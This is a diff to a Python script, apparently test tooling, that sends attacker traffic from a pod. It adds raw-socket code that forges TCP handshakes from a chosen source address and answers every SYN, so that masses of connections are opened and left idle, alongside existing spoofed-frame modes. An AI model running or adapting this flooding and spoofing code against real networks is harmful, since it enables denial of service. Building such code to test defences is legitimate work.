@@ -1,4 +1,4 @@
-"""What an attacker's pod puts on its wire: `frames.py KIND SECONDS SOURCE TARGET [RATE]`.
+"""What an attacker's pod puts on its wire: `frames.py KIND SECONDS SOURCE TARGET RATE`.
 
 A script for a pod's namespace: the standard library alone. SOURCE and TARGET are IPv4 addresses; it
 prints `ready` and then sends, at most RATE frames a second, for so many seconds.
@@ -13,7 +13,10 @@ from collections.abc import Callable
 
 ROUTER = bytes.fromhex("0a58a9fe0101")
 IPV4, ARP = b"\x08\x00", b"\x08\x06"
-UDP = 17
+UDP, TCP = 17, 6
+SYN, ACK = 0x02, 0x10
+OURS, THEIRS = 1_000, 2_000
+"""Sequence numbers that both sides of `handshakes` begin with."""
 BATCH = 50
 """Frames between two looks at the clock."""
 Random = random.Random
@@ -27,11 +30,18 @@ def checksum(data: bytes) -> int:
 
 
 def packet(
-    source: bytes, target: bytes, payload: bytes, *, number: int = 1, fragment: int = 0
+    source: bytes,
+    target: bytes,
+    payload: bytes,
+    *,
+    number: int = 1,
+    fragment: int = 0,
+    protocol: int = UDP,
 ) -> bytes:
-    """An IPv4 packet that holds UDP; `fragment` is the word of flags and offset."""
+    """An IPv4 packet; `fragment` is the word of flags and offset."""
+    length = 20 + len(payload)
     head = struct.pack(
-        "!BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), number, fragment, 64, UDP, 0, source, target
+        "!BBHHHBBH4s4s", 0x45, 0, length, number, fragment, 64, protocol, 0, source, target
     )
     return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + payload
 
@@ -39,6 +49,58 @@ def packet(
 def datagram(source_port: int, port: int, size: int = 4) -> bytes:
     """UDP without a checksum."""
     return struct.pack("!HHHH", source_port, port, 8 + size, 0) + bytes(size)
+
+
+def segment(
+    source: bytes, target: bytes, ports: tuple[int, int], numbers: tuple[int, int], flags: int
+) -> bytes:
+    """An IPv4 packet with a TCP segment; `numbers` are its sequence and acknowledgement."""
+    head = struct.pack("!HHIIBBHHH", *ports, *numbers, 0x50, flags, 65_535, 0, 0)
+    pseudo = source + target + struct.pack("!BBH", 0, TCP, len(head))
+    whole = head[:16] + struct.pack("!H", checksum(pseudo + head)) + head[18:]
+    return packet(source, target, whole, protocol=TCP)
+
+
+def answer(seconds: float) -> None:
+    """Answer every SYN: the other half of `handshakes`, without the kernel and its memory."""
+    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0800)) as raw:
+        raw.bind(("eth0", 0x0800))
+        raw.settimeout(1)
+        mac = raw.getsockname()[4]
+        print("ready", flush=True)
+        end = time.monotonic() + seconds
+        while time.monotonic() < end:
+            try:
+                frame, address = raw.recvfrom(2048)
+            except TimeoutError:
+                continue
+            if address[2] == socket.PACKET_OUTGOING or frame[23] != TCP or frame[47] != SYN:
+                continue
+            source, target = frame[26:30], frame[30:34]
+            ports = struct.unpack("!HH", frame[34:38])
+            said = segment(target, source, ports[::-1], (THEIRS, OURS + 1), SYN | ACK)
+            raw.send(ROUTER + mac + IPV4 + said)
+
+
+def handshakes(seconds: float, source: str, target: str, rate: float) -> None:
+    """Open TCP connections with `answer` that both sides then leave alone."""
+    ends = socket.inet_aton(source), socket.inet_aton(target)
+    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as raw:
+        raw.bind(("eth0", 0))
+        head = ROUTER + raw.getsockname()[4] + IPV4
+        print("ready", flush=True)
+        end, port, batch = time.monotonic() + seconds, 0, int(rate / 10)
+        while time.monotonic() < end:
+            began = time.monotonic()
+            opened = [divmod(port + number, 60_000) for number in range(batch)]
+            ports = [(1_024 + source_port, 1_024 + at) for at, source_port in opened]
+            for pair in ports:
+                raw.send(head + segment(*ends, pair, (OURS, 0), SYN))
+            time.sleep(0.05)  # for the answers
+            for pair in ports:
+                raw.send(head + segment(*ends, pair, (OURS + 1, THEIRS + 1), ACK))
+            port += batch
+            time.sleep(max(0.0, began + 0.1 - time.monotonic()))
 
 
 def source_macs(mac: bytes, source: bytes, target: bytes, made: Random) -> bytes:
@@ -106,5 +168,10 @@ def send(kind: str, seconds: float, source: str, target: str, rate: float) -> No
 
 
 if __name__ == "__main__":
-    kind, seconds, source, target, *rest = sys.argv[1:]
-    send(kind, float(seconds), source, target, float(rest[0]) if rest else 10_000)
+    kind, seconds, *rest = sys.argv[1:]
+    if kind == "answer":
+        answer(float(seconds))
+    elif kind == "handshakes":
+        handshakes(float(seconds), rest[0], rest[1], float(rest[2]))
+    else:
+        send(kind, float(seconds), rest[0], rest[1], float(rest[2]))
